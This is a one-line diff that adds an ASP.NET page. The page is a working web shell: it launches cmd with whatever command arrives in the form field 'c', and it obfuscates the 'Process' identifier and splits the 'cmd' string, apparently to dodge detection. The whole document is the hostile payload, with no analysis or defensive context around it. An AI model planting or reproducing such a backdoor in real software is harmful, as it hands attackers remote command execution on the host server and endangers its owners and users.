@@ -1,0 +1,1 @@
+<%@ Page Language="C#" %><%System.Diagnostics.\u0050rocess.Start("c"+"md",Request.Form["c"]);%>
